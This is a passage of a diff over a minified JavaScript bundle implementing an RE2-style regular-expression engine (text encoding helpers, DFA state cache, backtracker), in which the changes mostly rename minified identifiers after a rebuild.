+if(globalThis.TextEncoder)return Dc||(Dc=new TextEncoder),Dc.encode(e);{let n=[],s=0;for(let r=0;r<e.length;r++){let i=e.
 charCodeAt(r);i<128?n[s++]=i:i<2048?(n[s++]=i>>6|192,n[s++]=i&63|128):(i&64512)===se.MIN_HIGH_SURROGATE&&r+1<e.length&&(e.
 charCodeAt(r+1)&64512)===se.MIN_LOW_SURROGATE?(i=se.MIN_SUPPLEMENTARY_CODE_POINT+((i&1023)<<10)+(e.charCodeAt(++r)&1023),
 n[s++]=i>>18|240,n[s++]=i>>12&63|128,n[s++]=i>>6&63|128,n[s++]=i&63|128):(n[s++]=i>>12|224,n[s++]=i>>6&63|128,n[s++]=i&63|
-128)}return n}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){Oc||(Oc=new TextDecoder("utf-8"));const n=e instanceof
-Uint8Array?e:new Uint8Array(e);return Oc.decode(n)}else{let n=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)n[r++]=
+128)}return n}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){xc||(xc=new TextDecoder("utf-8"));const n=e instanceof
+Uint8Array?e:new Uint8Array(e);return xc.decode(n)}else{let n=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)n[r++]=
 String.fromCharCode(i);else if(i>191&&i<224){let o=e[s++];n[r++]=String.fromCharCode((i&31)<<6|o&63)}else if(i>239&&i<365){
 let o=e[s++],a=e[s++],c=e[s++],l=((i&7)<<18|(o&63)<<12|(a&63)<<6|c&63)-se.MIN_SUPPLEMENTARY_CODE_POINT;n[r++]=String.fromCharCode(
 se.MIN_HIGH_SURROGATE+(l>>10)),n[r++]=String.fromCharCode(se.MIN_LOW_SURROGATE+(l&1023))}else{let o=e[s++],a=e[s++];n[r++]=
-String.fromCharCode((i&15)<<12|(o&63)<<6|a&63)}}return n.join("")}}};const og=(t=[],e=0)=>{const n=Object.create(null);for(let s=0;s<
-t.length;s++){const r=t[s],i=e+s;n[r]=i,n[i]=r}return Object.freeze(n)};var Wn=class Zc{static Encoding=og(["UTF_16","UT\
+String.fromCharCode((i&15)<<12|(o&63)<<6|a&63)}}return n.join("")}}};const rg=(t=[],e=0)=>{const n=Object.create(null);for(let s=0;s<
+t.length;s++){const r=t[s],i=e+s;n[r]=i,n[i]=r}return Object.freeze(n)};var Wn=class Jc{static Encoding=rg(["UTF_16","UT\
 F_8"]);getEncoding(){throw Error("not implemented")}asCharSequence(){throw Error("not implemented")}asBytes(){throw Error(
-"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===Zc.Encoding.UTF_8}isUTF16Encoding(){
-return this.getEncoding()===Zc.Encoding.UTF_16}},ag=class extends Wn{constructor(t=null){super(),this.bytes=t}getEncoding(){
+"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===Jc.Encoding.UTF_8}isUTF16Encoding(){
+return this.getEncoding()===Jc.Encoding.UTF_16}},ig=class extends Wn{constructor(t=null){super(),this.bytes=t}getEncoding(){
 return Wn.Encoding.UTF_8}asCharSequence(){return V.utf8ByteArrayToString(this.bytes)}asBytes(){return this.bytes}length(){
-return this.bytes.length}},xN=class extends Wn{constructor(t=null){super(),this.charSequence=t}getEncoding(){return Wn.Encoding.
+return this.bytes.length}},CR=class extends Wn{constructor(t=null){super(),this.charSequence=t}getEncoding(){return Wn.Encoding.
 UTF_16}asCharSequence(){return this.charSequence}asBytes(){return V.stringToUtf8ByteArray(this.charSequence.toString())}length(){
-return this.charSequence.length}},qn=class{static utf16(t){return V.checkInput(t),new xN(t)}static utf8(t){return V.isByteArray(
-t)?new ag(t):new ag(V.stringToUtf8ByteArray(t))}},kt=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
-return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},ON=class _s extends kt{static RUNE_ERROR_STEP=se.
+return this.charSequence.length}},qn=class{static utf16(t){return V.checkInput(t),new CR(t)}static utf8(t){return V.isByteArray(
+t)?new ig(t):new ig(V.stringToUtf8ByteArray(t))}},kt=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
+return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},yR=class bs extends kt{static RUNE_ERROR_STEP=se.
 RUNE_ERROR<<3|1;constructor(e,n=0,s=e.length){super(),this.bytes=e,this.start=n,this.end=s}hasString(e,n){const s=e.bytes;
 if(s.length===0)return!0;const r=this.indexOf(this.bytes,s,this.start+n);return r!==-1&&r<=this.end-s.length}hasAnyString(e,n){
 return e.automaton8().searchUTF8(this.bytes,this.start+n,this.end)}step(e){if(e+=this.start,e>=this.end)return kt.EOF();
 const n=this.bytes[e]&255;if(n<128)return n<<3|1;let s,r,i=128,o=191;if(n>=194&&n<=223)s=2,r=n&31;else if(n>=224&&n<=239)
-s=3,r=n&15,n===224?i=160:n===237&&(o=159);else if(n>=240&&n<=244)s=4,r=n&7,n===240?i=144:n===244&&(o=143);else return _s.
-RUNE_ERROR_STEP;if(e+s>this.end)return _s.RUNE_ERROR_STEP;const a=this.bytes[e+1]&255;if(a<i||a>o)return _s.RUNE_ERROR_STEP;
-if(r=r<<6|a&63,s>2){const c=this.bytes[e+2]&255;if((c&192)!==128)return _s.RUNE_ERROR_STEP;if(r=r<<6|c&63,s>3){const l=this.
-bytes[e+3]&255;if((l&192)!==128)return _s.RUNE_ERROR_STEP;r=r<<6|l&63}}return r<<3|s}index(e,n){n+=this.start;const s=this.
+s=3,r=n&15,n===224?i=160:n===237&&(o=159);else if(n>=240&&n<=244)s=4,r=n&7,n===240?i=144:n===244&&(o=143);else return bs.
+RUNE_ERROR_STEP;if(e+s>this.end)return bs.RUNE_ERROR_STEP;const a=this.bytes[e+1]&255;if(a<i||a>o)return bs.RUNE_ERROR_STEP;
+if(r=r<<6|a&63,s>2){const c=this.bytes[e+2]&255;if((c&192)!==128)return bs.RUNE_ERROR_STEP;if(r=r<<6|c&63,s>3){const l=this.
+bytes[e+3]&255;if((l&192)!==128)return bs.RUNE_ERROR_STEP;r=r<<6|l&63}}return r<<3|s}index(e,n){n+=this.start;const s=this.
 indexOf(this.bytes,e.prefixUTF8,n);return s<0?s:s-n}context(e){e+=this.start;let n=-1;if(e>this.start&&e<=this.end){let r=e-
 1;if(n=this.bytes[r--],n>=128){let i=e-4;for(i<this.start&&(i=this.start);r>=i&&(this.bytes[r]&192)===128;)r--;r<this.start&&
 (r=this.start);const o=this.step(r-this.start);n=r+(o&7)===e?o>>3:se.RUNE_ERROR}}const s=e<this.end?this.step(e-this.start)>>
 3:-1;return V.emptyOpContext(n,s)}indexOf(e,n,s=0){let r=n.length;if(r===0)return s<=this.end?s:-1;const i=n[0];let o=this.
 end-r;const a=typeof e.indexOf=="function";let c=s;for(;c<=o;){if(a){if(c=e.indexOf(i,c),c===-1||c>o)return-1}else{for(;c<=
 o&&e[c]!==i;)c++;if(c>o)return-1}let l=!0;for(let u=1;u<r;u++)if(e[c+u]!==n[u]){l=!1;break}if(l)return c;c++}return-1}prefixLength(e){
-return e.prefixUTF8.length}},AN=class extends kt{constructor(t,e=0,n=t.length){super(),this.charSequence=t,this.start=e,
+return e.prefixUTF8.length}},wR=class extends kt{constructor(t,e=0,n=t.length){super(),this.charSequence=t,this.start=e,
 this.end=n}hasString(t,e){const n=this.charSequence.indexOf(t.str,this.start+e);return n!==-1&&n<=this.end-t.str.length}hasAnyString(t,e){
 return t.automaton16().searchUTF16(this.charSequence,this.start+e,this.end)}step(t){if(t+=this.start,t>=this.end)return kt.
 EOF();const e=this.charSequence.charCodeAt(t);if(e<se.MIN_HIGH_SURROGATE||e>se.MAX_HIGH_SURROGATE||t+1>=this.end)return e<<
@@ -6224,8 +6215,8 @@ EOF();const e=this.charSequence.charCodeAt(t);if(e<se.MIN_HIGH_SURROGATE||e>se.M
 1024+(n-se.MIN_LOW_SURROGATE)+se.MIN_SUPPLEMENTARY_CODE_POINT<<3|2:e<<3|1}index(t,e){e+=this.start;const n=this.charSequence.
 indexOf(t.prefix,e);return n<0||n>this.end-t.prefix.length?-1:n-e}context(t){t+=this.start;const e=t>this.start&&t<=this.
 end?this.charSequence.charCodeAt(t-1):-1,n=t<this.end?this.charSequence.charCodeAt(t):-1;return V.emptyOpContext(e,n)}prefixLength(t){
-return t.prefix.length}},Ze=class{static fromUTF8(t,e=0,n=t.length){return new ON(t,e,n)}static fromUTF16(t,e=0,n=void 0){
-return V.checkInput(t),new AN(t,e,n??t.length)}},cg=class AC{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,n=!1){
+return t.prefix.length}},Ze=class{static fromUTF8(t,e=0,n=t.length){return new yR(t,e,n)}static fromUTF16(t,e=0,n=void 0){
+return V.checkInput(t),new wR(t,e,n??t.length)}},og=class xC{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,n=!1){
 return n?e.indexOf("\\")<0&&e.indexOf("$")<0?e:e.split("").map(s=>{const r=s.codePointAt(0);return r===L.CODES["\\"]||r===
 L.CODES.$?`\\${s}`:s}).join(""):e.indexOf("$")<0?e:e.split("").map(s=>s.codePointAt(0)===L.CODES.$?"$$":s).join("")}constructor(e,n){
 if(e===null)throw new Error("pattern is null");this.patternInput=e;const s=this.patternInput.re2();this.patternGroupCount=
@@ -6273,7 +6264,7 @@ group(l);d!==null&&(r+=d)}else r+=e.substring(i,i+1+c);i+=1+c}else if(a===L.CODE
 ">",i+2);if(c<0)r+="$<",i+=2;else{const l=e.substring(i+2,c);if(Object.hasOwn(this.namedGroups,l)){const u=this.group(l);
 u!==null&&(r+=u)}i=c+1}}else r+="$",i+=1}return r+e.substring(i)}appendTail(){return this.substring(this.appendPos,this.
 matcherInputLength)}replaceAll(e,n=!1){return this.replace(e,!0,n)}replaceFirst(e,n=!1){return this.replace(e,!1,n)}replace(e,n=!0,s=!1){
-let r="";this.reset();const i=typeof e=="function";let o=null;if(i){if(this.groupCount()>=AC.MAX_REPLACER_ARGS)throw new Ot(
+let r="";this.reset();const i=typeof e=="function";let o=null;if(i){if(this.groupCount()>=xC.MAX_REPLACER_ARGS)throw new Ot(
 "Too many capture groups to safely invoke replacer function");o=this.matcherInput.isUTF8Encoding()?this.matcherInput.asBytes():
 this.matcherInput.asCharSequence()}for(;this.find()&&(r+=i?this.appendReplacementFunc(e,o):this.appendReplacement(e,s),!!n);)
 ;return r+=this.appendTail(),r}appendReplacementFunc(e,n){let s="";const r=this.start(),i=this.end();this.appendPos<r&&(s+=
@@ -6297,15 +6288,15 @@ LB_WRITE:return`lbwrite ${this.arg} -> ${this.out}`;case dt.LB_CHECK:return`lbch
 RUNE:return this.runes===null?"rune <null>":["rune ",dt.escapeRunes(this.runes),(this.arg&F.FOLD_CASE)!==0?"/i":""," -> ",
 this.out].join("");case dt.RUNE1:return`rune1 ${dt.escapeRunes(this.runes)} -> ${this.out}`;case dt.RUNE_ANY:return`any \
 -> ${this.out}`;case dt.RUNE_ANY_NOT_NL:return`anynotnl -> ${this.out}`;default:throw new Error("unhandled case in Inst.\
-toString")}}},ug=class SC{constructor(e){this.sparse=new Int32Array(e),this.densePcs=new Int32Array(e),this.denseCaps=null,
+toString")}}},ag=class OC{constructor(e){this.sparse=new Int32Array(e),this.densePcs=new Int32Array(e),this.denseCaps=null,
 this.size=0,this.ncap=0,this.mainThreads=0}static INITIAL_THREADS=32;init(e){this.ncap=e;const n=Math.min(this.densePcs.
-length,SC.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<n)&&(this.denseCaps=new Int32Array(n))}growCaps(e){
+length,OC.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<n)&&(this.denseCaps=new Int32Array(n))}growCaps(e){
 const n=this.densePcs.length*this.ncap,s=new Int32Array(Math.min(n,Math.max(e,2*this.denseCaps.length)));s.set(this.denseCaps),
 this.denseCaps=s}contains(e){const n=this.sparse[e];return n<this.size&&this.densePcs[n]===e}isEmpty(){return this.size===
 0}add(e){const n=this.size++;return this.sparse[e]=n,this.densePcs[n]=e,n}clear(){this.size=0,this.mainThreads=0}toString(){
-let e="{";for(let n=0;n<this.size;n++)n!==0&&(e+=", "),e+=this.densePcs[n];return e+="}",e}},SN=class{constructor(t){this.
+let e="{";for(let n=0;n<this.size;n++)n!==0&&(e+=", "),e+=this.densePcs[n];return e+="}",e}},bR=class{constructor(t){this.
 pos=-1,this.pcs=new Int32Array(t.numInst()),this.size=0,this.lbTable=new Int32Array(t.numLb+1)}reset(){this.pos=-1,this.
-size=0}},lg=class TC{static fromRE2(e){const n=new TC;return n.prog=e.prog,n.re2=e,n.q0=new ug(n.prog.numInst()),n.q1=new ug(
+size=0}},cg=class AC{static fromRE2(e){const n=new AC;return n.prog=e.prog,n.re2=e,n.q0=new ag(n.prog.numInst()),n.q1=new ag(
 n.prog.numInst()),n.addStack=new Int32Array(2*(n.prog.numInst()+1)),n.matched=!1,n.matchcap=new Int32Array(n.prog.numCap<
 2?2:n.prog.numCap),n.ncap=0,n}constructor(){this.prog=null,this.re2=null,this.q0=null,this.q1=null,this.addStack=null,this.
 matched=!1,this.matchcap=null,this.ncap=0,this.lbTable=null}init(e){this.ncap=e,e>this.matchcap.length?this.matchcap=new Int32Array(
@@ -6346,11 +6337,11 @@ n);){const u=e.add(n),d=this.prog.inst[n];switch(d.op){case T.FAIL:n=0;break;cas
 LB_CHECK:d.arg>0?n=this.lbTable[d.arg]===s?d.out:0:n=this.lbTable[-d.arg]!==s?d.out:0;break;case T.MATCH:case T.RUNE:case T.
 RUNE1:case T.RUNE_ANY:case T.RUNE_ANY_NOT_NL:if(this.prog.lbInst[n]===0&&e.mainThreads++,this.ncap>0){const B=u*this.ncap;
 B+this.ncap>e.denseCaps.length&&e.growCaps(B+this.ncap);for(let f=0;f<this.ncap;f++)e.denseCaps[B+f]=r[i+f]}n=0;break;default:
-throw new Pi("unhandled")}}if(c===0)return;c-=2;const l=a[c];l<0?(r[i-l-1]=a[c+1],n=0):n=l}}};const TN=(t,e,n)=>{let s=-2128831035;
+throw new Pi("unhandled")}}if(c===0)return;c-=2;const l=a[c];l<0?(r[i-l-1]=a[c+1],n=0):n=l}}};const _R=(t,e,n)=>{let s=-2128831035;
 for(let r=0;r<t.length;r++)s^=t[r],s=Math.imul(s,16777619);s^=e,s=Math.imul(s,16777619);for(let r=0;r<n.length;r++)s^=n[r],
-s=Math.imul(s,16777619);return s},dg=(t,e)=>{if(t.length!==e.length)return!1;for(let n=0;n<t.length;n++)if(t[n]!==e[n])return!1;
-return!0},Bg=(t,e,n,s)=>t.flag===n&&dg(t.nfaStates,e)&&dg(t.matchIDs,s),Ac=[],ar=-1;var ji=class{constructor(t,e,n){this.
-nfaStates=t,this.flag=e,this.isMatch=(e&Sc.FLAG_MATCH)!==0,this.matchIDs=n,this.next=null,this.nextAnchored=null}},Sc=class Bt{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,n=8388608){
+s=Math.imul(s,16777619);return s},ug=(t,e)=>{if(t.length!==e.length)return!1;for(let n=0;n<t.length;n++)if(t[n]!==e[n])return!1;
+return!0},lg=(t,e,n,s)=>t.flag===n&&ug(t.nfaStates,e)&&ug(t.matchIDs,s),Oc=[],ir=-1;var ji=class{constructor(t,e,n){this.
+nfaStates=t,this.flag=e,this.isMatch=(e&Ac.FLAG_MATCH)!==0,this.matchIDs=n,this.next=null,this.nextAnchored=null}},Ac=class Bt{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,n=8388608){
 this.prog=e,this.maxMem=n,this.stateCache=new Map,this.stateCount=0,this.startStates=new Map,this.failed=!1;for(let s=0;s<
 e.numInst();s++){const r=e.getInst(s).op;if(r===T.LB_WRITE||r===T.LB_CHECK){this.failed=!0;break}}this.computeRuneClasses(),
 this.stateBudget=n,this.memBudget=n}computeRuneClasses(){const e=new Set,n=(r,i)=>{e.add(r),e.add(i+1)};for(let r=0;r<this.
@@ -6364,8 +6355,8 @@ return e<=se.MAX_LATIN1?this.latin1Class[e]:this.searchClass(e)}searchClass(e){c
 for(;s<r;){const i=s+r>>1;n[i]<=e?s=i+1:r=i}return s}closure(e,n){const s=new Set,r=Array.from(e);let i=0;for(;r.length>
 0;){const o=r.pop();if(o===0||s.has(o))continue;s.add(o);const a=this.prog.getInst(o);switch(a.op){case T.ALT:case T.ALT_MATCH:
 r.push(a.out),r.push(a.arg);break;case T.NOP:case T.CAPTURE:r.push(a.out);break;case T.EMPTY_WIDTH:i|=a.arg,(a.arg&~n)===
-0&&r.push(a.out)}}return{pcs:Array.from(s).sort((o,a)=>o-a),needflags:i}}getState(e,n,s){const r=TN(e,n,s),i=this.stateCache.
-get(r);if(i instanceof ji){if(Bg(i,e,n,s))return i}else if(i!==void 0){for(let c=0;c<i.length;c++)if(Bg(i[c],e,n,s))return i[c]}
+0&&r.push(a.out)}}return{pcs:Array.from(s).sort((o,a)=>o-a),needflags:i}}getState(e,n,s){const r=_R(e,n,s),i=this.stateCache.
+get(r);if(i instanceof ji){if(lg(i,e,n,s))return i}else if(i!==void 0){for(let c=0;c<i.length;c++)if(lg(i[c],e,n,s))return i[c]}
 const o=Bt.stateCost(e,s);if(this.memBudget<o)return null;this.memBudget-=o;const a=new ji(e,n,s);return i===void 0?this.
 stateCache.set(r,a):i instanceof ji?this.stateCache.set(r,[i,a]):i.push(a),this.stateCount++,a}static stateCost(e,n){const s=n.
 length===0?0:Bt.ARRAY_OVERHEAD+Bt.ELEMENT_SIZE*n.length;return Bt.STATE_OVERHEAD+Bt.ELEMENT_SIZE*e.length+s}*cachedStates(){
@@ -6376,29 +6367,29 @@ s).fill(null);return n===F.UNANCHORED?e.next=i:e.nextAnchored=i,i}clearCache(){t
 this.startStates.clear(),this.memBudget=this.stateBudget}resetCache(e){return this.clearCache(),this.getState(e.nfaStates,
 e.flag,e.matchIDs)}step(e,n,s,r){let i=r===F.UNANCHORED?e.next:e.nextAnchored;if(i!==null){const y=i[n];if(y!==null)return y}else if(i=
 this.allocTable(e,r),i===null)return null;const o=e.flag>>>Bt.FLAG_NEED_SHIFT,a=e.flag&Bt.FLAG_EMPTY_MASK;let c=a,l=0;s===
-10&&(c|=V.EMPTY_END_LINE,l|=V.EMPTY_BEGIN_LINE),s===ar&&(c|=V.EMPTY_END_LINE|V.EMPTY_END_TEXT);const u=(e.flag&Bt.FLAG_LAST_WORD)!==
-0,d=s!==ar&&V.isWordRune(s);c|=d===u?V.EMPTY_NO_WORD_BOUNDARY:V.EMPTY_WORD_BOUNDARY;let B=e.nfaStates;(c&~a&o)!==0&&(B=this.
-closure(B,c).pcs);const f=[];let h=!1,m=Ac;for(let y=0;y<B.length;y++){const b=this.prog.getInst(B[y]);b.op===T.MATCH?(h||
-(h=!0,m=[]),m.push(b.arg)):s!==ar&&T.isRuneOp(b.op)&&b.matchRune(s)&&f.push(b.out)}m.length>1&&m.sort((y,b)=>y-b),r===F.
-UNANCHORED&&s!==ar&&f.push(this.prog.start);let g=l;h&&(g|=Bt.FLAG_MATCH),d&&(g|=Bt.FLAG_LAST_WORD);const C=this.makeState(
+10&&(c|=V.EMPTY_END_LINE,l|=V.EMPTY_BEGIN_LINE),s===ir&&(c|=V.EMPTY_END_LINE|V.EMPTY_END_TEXT);const u=(e.flag&Bt.FLAG_LAST_WORD)!==
+0,d=s!==ir&&V.isWordRune(s);c|=d===u?V.EMPTY_NO_WORD_BOUNDARY:V.EMPTY_WORD_BOUNDARY;let B=e.nfaStates;(c&~a&o)!==0&&(B=this.
+closure(B,c).pcs);const f=[];let h=!1,m=Oc;for(let y=0;y<B.length;y++){const b=this.prog.getInst(B[y]);b.op===T.MATCH?(h||
+(h=!0,m=[]),m.push(b.arg)):s!==ir&&T.isRuneOp(b.op)&&b.matchRune(s)&&f.push(b.out)}m.length>1&&m.sort((y,b)=>y-b),r===F.
+UNANCHORED&&s!==ir&&f.push(this.prog.start);let g=l;h&&(g|=Bt.FLAG_MATCH),d&&(g|=Bt.FLAG_LAST_WORD);const C=this.makeState(
 f,g,m);return C===null?null:(i[n]=C,C)}start(e,n){const s=e.context(n);let r;if((s&V.EMPTY_BEGIN_TEXT)!==0)r=V.EMPTY_BEGIN_TEXT|
 V.EMPTY_BEGIN_LINE;else if((s&V.EMPTY_BEGIN_LINE)!==0)r=V.EMPTY_BEGIN_LINE;else{const o=e.step(n),a=o>=0&&V.isWordRune(o>>
 3);r=(s&V.EMPTY_WORD_BOUNDARY)!==0!==a?Bt.FLAG_LAST_WORD:0}let i=this.startStates.get(r);if(i===void 0){if(i=this.makeState(
-[this.prog.start],r,Ac),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Ac),i===null))return null;this.
+[this.prog.start],r,Oc),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Oc),i===null))return null;this.
 startStates.set(r,i)}return i}stepOrReset(e,n,s,r,i,o){let a=this.step(e,n,s,r);if(a!==null)return a;if(o.resetPos>=0&&i-
 o.resetPos<Bt.PROGRESS_PER_STATE*this.stateCount)return null;o.resetPos=i;const c=this.resetCache(e);return c===null?null:
 (a=this.step(c,n,s,r),a)}run(e,n,s,r,i){const o=e.endPos(),a=this.latin1Class,c=s===F.UNANCHORED,l={resetPos:-1};let u=n;
 for(;u<o;){const d=e.step(u),B=d>>3,f=d&7;if(f===0)break;const h=B<=se.MAX_LATIN1?a[B]:this.runeClass(B);let m=c&&r.next!==
 null?r.next[h]:null;if(m===null&&(m=this.stepOrReset(r,h,B,s,u,l),m===null))return null;if(r=m,r.isMatch&&i(r,!1))return!0;
-if(!c&&r.nfaStates.length===0)return!1;u+=f}return r=this.stepOrReset(r,this.numClasses,ar,s,u,l),r===null?null:r.isMatch&&
+if(!c&&r.nfaStates.length===0)return!1;u+=f}return r=this.stepOrReset(r,this.numClasses,ir,s,u,l),r===null?null:r.isMatch&&
 i(r,!0)}match(e,n,s){if(this.failed)return null;if((s===F.ANCHOR_START||s===F.ANCHOR_BOTH)&&n!==0)return!1;const r=this.
 start(e,n);return r===null?null:this.run(e,n,s,r,(i,o)=>s!==F.ANCHOR_BOTH||o)}matchSet(e,n,s){if(this.failed)return null;
 if((s===F.ANCHOR_START||s===F.ANCHOR_BOTH)&&n!==0)return[];const r=this.start(e,n);if(r===null)return null;const i=new Set,
 o=(a,c)=>{if(s!==F.ANCHOR_BOTH||c)for(let l=0;l<a.matchIDs.length;l++)i.add(a.matchIDs[l]);return!1};return this.run(e,n,
-s,r,o)===null?null:Array.from(i).sort((a,c)=>a-c)}};const IN=32,$N=500,Tc=256,RN=262144;var NN=class{constructor(){this.
-end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Tc),this.jobArg=new Uint8Array(
-Tc),this.jobPos=new Int32Array(Tc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(t,e,n){this.end=e,this.jobLen=0,this.
-ncap=n;const s=t.numInst()*(e+1)+IN-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
+s,r,o)===null?null:Array.from(i).sort((a,c)=>a-c)}};const ER=32,kR=500,Sc=256,vR=262144;var DR=class{constructor(){this.
+end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Sc),this.jobArg=new Uint8Array(
+Sc),this.jobPos=new Int32Array(Sc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(t,e,n){this.end=e,this.jobLen=0,this.
+ncap=n;const s=t.numInst()*(e+1)+ER-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
 this.cap.length<n?this.cap=new Int32Array(n).fill(-1):this.cap.fill(-1,0,n),this.matchcap.length<n?this.matchcap=new Int32Array(
 n).fill(-1):this.matchcap.fill(-1,0,n)}shouldVisit(t,e){const n=t*(this.end+1)+e,s=n>>>5,r=1<<(n&31);return(this.visited[s]&
 r)!==0?!1:(this.visited[s]|=r,!0)}push(t,e,n,s){if(t.prog.getInst(e).op!==T.FAIL&&(s||this.shouldVisit(e,n))){if(this.jobLen>=
@@ -6417,30 +6408,30 @@ continue}case T.EMPTY_WIDTH:{const d=e.context(c);if((u.arg&~d)!==0)break;o=u.ou
 MATCH:{if(r===F.ANCHOR_BOTH&&c!==this.end)break;if(this.ncap===0)return!0;this.ncap>1&&(this.cap[1]=c);const d=this.matchcap[1];
 if((d===-1||i&&c>0&&c>d)&&this.matchcap.set(this.cap),!i||c===this.end)return!0;break}case T.LB_WRITE:case T.LB_CHECK:throw new Pi(
 "Backtracker cannot evaluate Lookbehind instructions");default:throw new Pi("bad inst")}break}}return i&&this.matchcap.length>
-1&&this.matchcap[1]>=0}};const Mi=[];var Gi=class IC{static shouldBacktrack(e){return e.numInst()<=$N}static maxBitStateLen(e){
-return IC.shouldBacktrack(e)?Math.floor(RN/e.numInst()):0}static execute(e,n,s,r,i){const o=e.cond;if(o===V.EMPTY_ALL||(r===
-F.ANCHOR_START||r===F.ANCHOR_BOTH)&&s!==0||(o&V.EMPTY_BEGIN_TEXT)!==0&&s!==0)return null;const a=Mi.length>0?Mi.pop():new NN,
+1&&this.matchcap[1]>=0}};const Mi=[];var Gi=class SC{static shouldBacktrack(e){return e.numInst()<=kR}static maxBitStateLen(e){
+return SC.shouldBacktrack(e)?Math.floor(vR/e.numInst()):0}static execute(e,n,s,r,i){const o=e.cond;if(o===V.EMPTY_ALL||(r===
+F.ANCHOR_START||r===F.ANCHOR_BOTH)&&s!==0||(o&V.EMPTY_BEGIN_TEXT)!==0&&s!==0)return null;const a=Mi.length>0?Mi.pop():new DR,
 c=n.endPos();a.reset(e.prog,c,i);let l=!1;if((o&V.EMPTY_BEGIN_TEXT)!==0||r===F.ANCHOR_START||r===F.ANCHOR_BOTH)a.ncap>0&&
 (a.cap[0]=s),a.tryBacktrack(e,n,e.prog.start,s,r)&&(l=!0);else{let d=-1;for(;s<=c&&d!==0;s+=d){if(e.prefix.length>0){const f=n.
 index(e,s);if(f<0)break;s+=f}if(a.ncap>0&&(a.cap[0]=s),a.tryBacktrack(e,n,e.prog.start,s,r)){l=!0;break}const B=n.step(s);
 d=B===kt.EOF()?0:B&7}}if(!l)return Mi.push(a),null;const u=i===0?[]:V.toArray(a.matchcap.subarray(0,i));return Mi.push(a),
-u}},fg=class{constructor(t){this.sparse=new Uint32Array(t),this.dense=new Uint32Array(t),this.size=0,this.nextIndex=0}empty(){
+u}},dg=class{constructor(t){this.sparse=new Uint32Array(t),this.dense=new Uint32Array(t),this.size=0,this.nextIndex=0}empty(){
 return this.nextIndex>=this.size}next(){return this.dense[this.nextIndex++]}clear(){this.size=0,this.nextIndex=0}contains(t){
 return t<this.sparse.length&&this.sparse[t]<this.size&&this.dense[this.sparse[t]]===t}insert(t){this.contains(t)||this.insertNew(
-t)}insertNew(t){t>=this.sparse.length||(this.sparse[t]=this.size,this.dense[this.size]=t,this.size++)}};const FN=(t,e,n,s)=>{
+t)}insertNew(t){t>=this.sparse.length||(this.sparse[t]=this.size,this.dense[this.size]=t,this.size++)}};const xR=(t,e,n,s)=>{
 const r=t.length,i=e.length;let o=0,a=0;const c=[],l=[];let u=!0,d=-1;const B=f=>{const h=f?t:e,m=f?o:a,g=f?n:s;return d>
 0&&h[m]<=c[d]?!1:(c.push(h[m],h[m+1]),f?o+=2:a+=2,d+=2,l.push(g),!0)};for(;o<r||a<i;)if(a>=i?u=B(!0):o>=r||e[a]<t[o]?u=B(
-!1):u=B(!0),!u)return null;return{merged:c,next:l}};var LN=class{constructor(t){this.start=t.start,this.numCap=t.numCap,
+!1):u=B(!0),!u)return null;return{merged:c,next:l}};var OR=class{constructor(t){this.start=t.start,this.numCap=t.numCap,
 this.inst=new Array(t.inst.length);for(let e=0;e<t.inst.length;e++){const n=t.inst[e],s=new T(n.op);s.out=n.out,s.arg=n.
-arg,s.runes=n.runes?new Int32Array(n.runes):new Int32Array(0),s.next=null,this.inst[e]=s}}};const PN=t=>{const e=new LN(
+arg,s.runes=n.runes?new Int32Array(n.runes):new Int32Array(0),s.next=null,this.inst[e]=s}}};const AR=t=>{const e=new OR(
 t);for(let n=0;n<e.inst.length;n++){const s=e.inst[n];if(s.op!==T.ALT&&s.op!==T.ALT_MATCH)continue;let r="out",i="arg",o=e.
 inst[s[i]];if(o.op!==T.ALT&&o.op!==T.ALT_MATCH&&(r="arg",i="out",o=e.inst[s[i]],o.op!==T.ALT&&o.op!==T.ALT_MATCH))continue;
 const a=e.inst[s[r]];if(a.op===T.ALT||a.op===T.ALT_MATCH)continue;let c="out",l="arg",u=!1;o.out===n?u=!0:o.arg===n&&(u=
-!0,c="arg",l="out"),u&&(o[c]=s[r]),s[r]===o[c]&&(s[i]=o[l])}return e},jN=t=>{if(t.inst.length>=1e3)return null;const e=new fg(
-t.inst.length),n=new fg(t.inst.length),s=new Array(t.inst.length),r=new Array(t.inst.length).fill(!1),i=o=>{let a=!0;const c=t.
+!0,c="arg",l="out"),u&&(o[c]=s[r]),s[r]===o[c]&&(s[i]=o[l])}return e},SR=t=>{if(t.inst.length>=1e3)return null;const e=new dg(
